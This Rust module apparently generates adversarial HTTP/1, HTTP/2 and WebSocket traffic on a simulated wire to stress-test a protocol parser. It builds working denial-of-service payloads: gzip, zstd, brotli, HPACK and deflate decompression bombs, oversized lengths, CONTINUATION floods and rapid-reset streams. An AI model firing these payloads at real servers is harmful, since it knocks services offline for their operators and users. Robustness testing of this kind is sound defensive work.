//! Attacks by HTTP/1, HTTP/2 and WebSocket.

use std::io::Write;

use flate2::Compression;
use flate2::write::{DeflateEncoder, GzEncoder};

use crate::wire::{ACK, Flow, MSS, Stream, Wire};

const FLOW: Flow = Flow { client: 0x0a00_0001, ports: [40_000, 80] };

const REQUEST: &[u8] = b"GET / HTTP/1.1\r\nHost: a\r\n\r\n";

/// Bytes again and again, so many in all.
fn repeated(stream: &mut Stream, wire: &mut Wire, from: usize, text: &[u8], len: usize) {
    let whole = text.repeat((MSS / text.len()).max(1));
    let mut left = len;
    while left > 0 {
        let piece = &whole[..whole.len().min(left)];
        stream.send(wire, from, piece);
        left -= piece.len();
    }
}

/// A head that does not end, in `n` lines.
pub fn header_lines(wire: &mut Wire, n: usize) {
    let mut stream = wire.open(FLOW);
    stream.send(wire, 0, b"GET / HTTP/1.1\r\nHost: a\r\n");
    repeated(&mut stream, wire, 0, b"A: b\r\n", 6 * n);
}

/// A field value of `n` bytes.
pub fn endless_line(wire: &mut Wire, n: usize) {
    let mut stream = wire.open(FLOW);
    stream.send(wire, 0, b"GET / HTTP/1.1\r\nHost: ");
    repeated(&mut stream, wire, 0, b"a", n);
}

/// A head in segments of a byte.
pub fn head_in_bytes(wire: &mut Wire, n: usize) {
    let mut stream = wire.open(FLOW);
    stream.send_in(wire, 0, b"GET / HTTP/1.1\r\nHost: a\r\nX: ", 1);
    (0..n).for_each(|_| stream.send(wire, 0, b"x"));
}

/// Chunk sizes about 2⁶⁴.
pub fn chunk_sizes(wire: &mut Wire, n: usize) {
    let sizes =
        ["ffffffffffffffff", "fffffffffffffffe", "10000000000000000", "8000000000000000", "0ffffffffffffffffff"];
    for i in 0..n {
        let mut stream = wire.open(Flow::of(i, 80));
        let head = "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n";
        stream.send(wire, 0, format!("{head}3\r\nabc\r\n{}\r\nabc", sizes[i % sizes.len()]).as_bytes());
        stream.send(wire, 0, b"abc\r\n0\r\n\r\n");
        stream.close(wire);
    }
}

/// Content-Length about 2⁶⁴.
pub fn lengths(wire: &mut Wire, n: usize) {
    let lengths = ["18446744073709551615", "18446744073709551616", "9223372036854775808", "99999999999999999999999"];
    for i in 0..n {
        let mut stream = wire.open(Flow::of(i, 80));
        let length = lengths[i % lengths.len()];
        stream.send(wire, 0, format!("POST / HTTP/1.1\r\nHost: a\r\nContent-Length: {length}\r\n\r\nabc").as_bytes());
        stream.send(wire, 0, b"abc");
        stream.close(wire);
    }
}

/// Chunks of a byte.
pub fn chunks(wire: &mut Wire, n: usize) {
    let mut stream = wire.open(FLOW);
    stream.send(wire, 0, b"POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n");
    repeated(&mut stream, wire, 0, b"1\r\nx\r\n", 6 * n);
}

/// Requests that are never answered.
pub fn pipelined(wire: &mut Wire, n: usize) {
    let mut stream = wire.open(FLOW);
    (0..n).for_each(|_| stream.send(wire, 0, REQUEST));
    stream.send(wire, 1, b"HTTP/1.1 204 No Content\r\n\r\n");
}

/// Responses, beside as many requests as are remembered.
pub fn pipelined_answered(wire: &mut Wire, n: usize) {
    let mut stream = wire.open(FLOW);
    (0..4500).for_each(|_| stream.send(wire, 0, REQUEST));
    for _ in 0..n {
        stream.send(wire, 1, b"HTTP/1.1 204 No Content\r\n\r\n");
        stream.send(wire, 0, REQUEST);
    }
}

/// A response with a content that its coding makes large, over `n` connections.
fn bombs(wire: &mut Wire, n: usize, coding: &str, bomb: &[u8]) {
    for i in 0..n {
        let mut stream = wire.open(Flow::of(i, 80));
        stream.send(wire, 0, REQUEST);
        let head = format!("HTTP/1.1 200 OK\r\nContent-Encoding: {coding}\r\nContent-Length: {}\r\n\r\n", bomb.len());
        stream.send(wire, 1, &[head.as_bytes(), bomb].concat());
    }
}

/// How much each bomb is, MB: twice what of any is decoded.
const BOMB: usize = 32;

pub fn gzip_bombs(wire: &mut Wire, n: usize) {
    let mut bomb = GzEncoder::new(Vec::new(), Compression::best());
    (0..BOMB).for_each(|_| bomb.write_all(&vec![0; 1 << 20]).unwrap());
    bombs(wire, n, "gzip", &bomb.finish().unwrap());
}

/// gzip within gzip within gzip.
pub fn gzip_in_gzip(wire: &mut Wire, n: usize) {
    let gzip = |bytes: &[u8]| {
        let mut out = GzEncoder::new(Vec::new(), Compression::best());
        out.write_all(bytes).unwrap();
        out.finish().unwrap()
    };
    bombs(wire, n, "gzip, gzip, gzip", &gzip(&gzip(&gzip(&vec![0; BOMB << 20]))));
}

/// Blocks of zstd that repeat one byte (RFC 8878 3.1.1.2.2): four bytes for 128 KiB.
pub fn zstd_bombs(wire: &mut Wire, n: usize) {
    let block = |last: u32| [&(last | 1 << 1 | (128 << 10) << 3).to_le_bytes()[..3], b"x"].concat();
    // Magic number, no content size and no checksum, a window of 128 KiB.
    let frame = [&[0x28, 0xb5, 0x2f, 0xfd, 0, 7 << 3][..], &block(0).repeat(8 * BOMB), &block(1)].concat();
    bombs(wire, n, "zstd", &frame);
}

/// Meta-blocks of brotli that copy four bytes over 16 MiB (RFC 7932 9.2): thirteen bytes each.
pub fn brotli_bombs(wire: &mut Wire, n: usize) {
    let mut bits = Bits::default();
    // A window of 2²² bytes.
    bits.put(0b1011, 4);
    let len = 1 << 24;
    for _ in 0..BOMB / 16 {
        // Not the last one; its length in six nibbles; compressed.
        [(0, 1), (2, 2), (len - 1, 24), (0, 1)].into_iter().for_each(|(value, count)| bits.put(value, count));
        // One type of blocks each, no postfix, no direct distances, context mode LSB6, one tree each.
        [(0, 3), (0, 6), (0, 2), (0, 2)].into_iter().for_each(|(value, count)| bits.put(value, count));
        // Codes of one symbol: the literal `x`; insert 4 and copy from 2118 on; the last distance, which is 4.
        for (symbol, count) in [(b'x'.into(), 8), (384 + (4 << 3) + 7, 10), (0, 6)] {
            [(1, 2), (0, 2), (symbol, count)].into_iter().for_each(|(value, count)| bits.put(value, count));
        }
        bits.put(len - 4 - 2118, 24);
    }
    // The last one, and it is empty.
    bits.put(3, 2);
    bombs(wire, n, "br", &bits.bytes);
}

/// Bits, the lowest first.
#[derive(Default)]
struct Bits {
    bytes: Vec<u8>,
    count: usize,
}

impl Bits {
    fn put(&mut self, value: u32, count: usize) {
        for bit in 0..count {
            if self.count.is_multiple_of(8) {
                self.bytes.push(0);
            }
            *self.bytes.last_mut().unwrap() |= ((value >> bit & 1) as u8) << (self.count % 8);
            self.count += 1;
        }
    }
}

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

fn h2_frame(kind: u8, flags: u8, stream: usize, payload: &[u8]) -> Vec<u8> {
    let len = &(payload.len() as u32).to_be_bytes()[1..];
    [len, &[kind, flags], &(stream as u32).to_be_bytes(), payload].concat()
}

/// Fields of the static table: GET, http, `/`.
const GET: [u8; 3] = [0x82, 0x86, 0x84];

/// A connection of HTTP/2.
fn h2(wire: &mut Wire) -> Stream {
    let mut stream = wire.open(FLOW);
    stream.send(wire, 0, &[&b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"[..], &h2_frame(SETTINGS, 0, 0, &[])].concat());
    stream.send(wire, 1, &h2_frame(SETTINGS, 0, 0, &[]));
    stream
}

/// An entry of 4000 bytes, and blocks that refer to it 16000 times each: 64 MB.
pub fn hpack_bombs(wire: &mut Wire, n: usize) {
    let mut stream = h2(wire);
    // A new entry of the table: name, and value with its length as an integer of prefix 7 (RFC 7541 5.1).
    let entry = [&[0x40, 1, b'a', 0x7f, 0xa1, 0x1e][..], &[b'x'; 4000]].concat();
    stream.send(wire, 0, &h2_frame(HEADERS, END_STREAM | END_HEADERS, 1, &[&GET[..], &entry].concat()));
    for i in 0..n {
        let block = [&GET[..], &[0xbe; 16_000]].concat();
        stream.send(wire, 0, &h2_frame(HEADERS, END_STREAM | END_HEADERS, 3 + 2 * i, &block));
    }
}

/// A field block that does not end.
pub fn continuations(wire: &mut Wire, n: usize) {
    let mut stream = h2(wire);
    stream.send(wire, 0, &h2_frame(HEADERS, END_STREAM, 1, &GET));
    for _ in 0..n {
        // A literal field that the table does not take.
        stream.send(wire, 0, &h2_frame(CONTINUATION, 0, 1, &[0, 1, b'a', 1, b'b'].repeat(100)));
    }
}

/// The same in frames without a byte.
pub fn empty_continuations(wire: &mut Wire, n: usize) {
    let mut stream = h2(wire);
    stream.send(wire, 0, &h2_frame(HEADERS, END_STREAM, 1, &GET));
    let some = h2_frame(CONTINUATION, 0, 1, &[]).repeat(100);
    (0..n).for_each(|_| stream.send(wire, 0, &some));
}

/// Requests that do not end.
pub fn endless_streams(wire: &mut Wire, n: usize) {
    let mut stream = h2(wire);
    (0..n).for_each(|i| stream.send(wire, 0, &h2_frame(HEADERS, END_HEADERS, 1 + 2 * i, &GET)));
}

/// Requests that are cancelled at once.
pub fn rapid_reset(wire: &mut Wire, n: usize) {
    let mut stream = h2(wire);
    for i in 0..n {
        let frames = [
            h2_frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * i, &GET),
            h2_frame(RST_STREAM, 0, 1 + 2 * i, &[0, 0, 0, 8]),
        ];
        stream.send(wire, 0, &frames.concat());
    }
}

/// Settings, pings and empty frames.
pub fn h2_control(wire: &mut Wire, n: usize) {
    let mut stream = h2(wire);
    stream.send(wire, 0, &h2_frame(HEADERS, END_HEADERS, 1, &GET));
    let frames =
        [h2_frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]), h2_frame(PING, 0, 0, &[0; 8]), h2_frame(DATA, 0, 1, &[])];
    (0..n).for_each(|_| stream.send(wire, 0, &frames.concat()));
}

/// A WebSocket that agrees on permessage-deflate.
fn websocket(wire: &mut Wire, flow: Flow) -> Stream {
    let mut stream = wire.open(flow);
    let upgrade = "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Extensions: permessage-deflate\r\n";
    let key = "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n";
    stream.send(wire, 0, format!("GET / HTTP/1.1\r\nHost: a\r\n{upgrade}{key}\r\n").as_bytes());
    let accept = "Sec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n";
    stream.send(wire, 1, format!("HTTP/1.1 101 Switching Protocols\r\n{upgrade}{accept}\r\n").as_bytes());
    stream
}

/// A message in fragments without end.
pub fn websocket_fragments(wire: &mut Wire, n: usize) {
    let mut stream = websocket(wire, FLOW);
    stream.send(wire, 1, &[0x01, 1, b'x']);
    (0..n).for_each(|_| stream.send(wire, 1, &[0x00, 1, b'x'].repeat(10)));
}

/// Messages that are large, deflated.
pub fn websocket_bombs(wire: &mut Wire, n: usize) {
    let mut bomb = DeflateEncoder::new(Vec::new(), Compression::best());
    (0..BOMB).for_each(|_| bomb.write_all(&vec![0; 1 << 20]).unwrap());
    bomb.flush().unwrap();
    let bytes = bomb.get_ref().strip_suffix(&[0, 0, 0xff, 0xff]).unwrap().to_vec();
    let mut stream = websocket(wire, FLOW);
    for _ in 0..n {
        let len = (bytes.len() as u64).to_be_bytes();
        stream.send(wire, 1, &[&[0xc2, 127][..], &len, &bytes].concat());
    }
}

/// Frames whose lengths are about 2⁶³.
pub fn websocket_lengths(wire: &mut Wire, n: usize) {
    for i in 0..n {
        let mut stream = websocket(wire, Flow::of(i, 80));
        let len = [u64::MAX, i64::MAX as u64, 1 << 62][i % 3];
        stream.send(wire, 1, &[&[0x82, 127][..], &len.to_be_bytes(), b"abc"].concat());
        wire.segment(stream.flow, 0, stream.next, ACK, b"");
    }
}

/// A host a request.
pub fn hosts(wire: &mut Wire, n: usize) {
    let mut stream = wire.open(FLOW);
    for i in 0..n {
        stream.send(wire, 0, format!("GET /{i} HTTP/1.1\r\nHost: h{i}.test\r\n\r\n").as_bytes());
        stream.send(wire, 1, b"HTTP/1.1 204 No Content\r\n\r\n");
    }
}
